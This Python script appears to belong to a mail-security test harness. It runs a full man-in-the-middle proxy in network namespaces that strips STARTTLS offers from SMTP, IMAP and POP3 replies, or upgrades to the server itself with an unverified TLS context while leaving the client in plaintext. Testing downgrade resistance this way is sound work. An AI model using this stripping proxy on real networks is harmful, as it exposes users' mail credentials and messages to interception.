#!/usr/bin/env python3
"""The box as a full proxy: it ends the client's connection, and makes one of its own with the client's address.

usage: proxy.py proxy|proxy-tls VICTIMS      (in the network namespaces of tests/live/world.py; ends with SIGTERM)

It poses as the server in the namespace `inner` and as the clients in `outer`. `proxy` takes the offer of STARTTLS out of
what it hands on; `proxy-tls` upgrades to the server by itself, so that the server sees TLS and the client none.
Connections of others than VICTIMS are copied as they are."""
import ipaddress, os, re, select, signal, socket, ssl, sys, threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True
sys.path.insert(0, HERE)
from attacks import GO_AHEAD, OFFER, without
from box import PROTO, enter

SERVER = '192.0.2.25'


class Stage:
    tls = False
    def __init__(self, proto): self.proto = proto


def copy(client, server, change):
    """Both ways, until both ends are done; one thread, for a TLS connection is not made for two."""
    way = {client: (server, bytes), server: (client, change)}
    while way:
        ready = [s for s in way if isinstance(s, ssl.SSLSocket) and s.pending()] or select.select(list(way), [], [])[0]
        for s in ready:
            other, changed = way[s]
            s.settimeout(0.02)                          # a record that is none of the dialogue, such as a ticket
            try:
                data = s.recv(65536)
            except TimeoutError:
                continue
            finally:
                s.settimeout(None)
            if data:
                other.sendall(changed(data))
            else:
                del way[s]
                other.shutdown(socket.SHUT_WR)


def stripper(proto):
    def change(data):
        m = re.search(OFFER[proto], data) if proto in OFFER else None
        return without(Stage(proto), data, m) if m else data
    return change


ASK = {'smtp': (b'EHLO proxy.example\r\n', b'STARTTLS\r\n'), 'imap': (b'x STARTTLS\r\n',), 'pop3': (b'STLS\r\n',)}


def upgraded(s, proto):
    """The greeting, and the connection after a handshake; None where the server will not."""
    greeting = s.recv(65536)
    answer = b''
    for line in ASK[proto]:
        s.sendall(line)
        answer = s.recv(65536)
    if not re.match(GO_AHEAD[proto], answer):
        return greeting, None
    if proto == 'imap':                                 # its list of before TLS is not that of the connection
        greeting = re.sub(rb' STARTTLS', b'', greeting)
    context = ssl._create_unverified_context()
    return greeting, context.wrap_socket(s)


def serve(kind, client, address, port, victims):
    upstream = socket.socket()
    upstream.bind((address, 0))
    proto = PROTO[port] if ipaddress.ip_address(address) in victims else 'tls'
    try:
        upstream.connect((SERVER, port))
        change = stripper(proto)
        if kind == 'proxy-tls' and proto != 'tls':
            greeting, upstream = upgraded(upstream, proto)
            client.sendall(greeting)
        copy(client, upstream, change)
    except OSError as e:
        print('proxy:', e, flush=True)
    client.close()
    upstream.close()


def listen(kind, listener, port, victims):
    while True:
        client, (address, _) = listener.accept()
        threading.Thread(target=in_outer, args=(serve, kind, client, address, port, victims), daemon=True).start()


def in_outer(function, *args):
    enter('outer')                                      # of this thread only
    function(*args)


def main():
    kind, victims = sys.argv[1], ipaddress.ip_network(sys.argv[2])
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    enter('inner')
    for port in PROTO:
        s = socket.create_server((SERVER, port), backlog=64)
        threading.Thread(target=listen, args=(kind, s, port, victims), daemon=True).start()
    print('ready', flush=True)
    signal.pause()


if __name__ == '__main__':
    main()
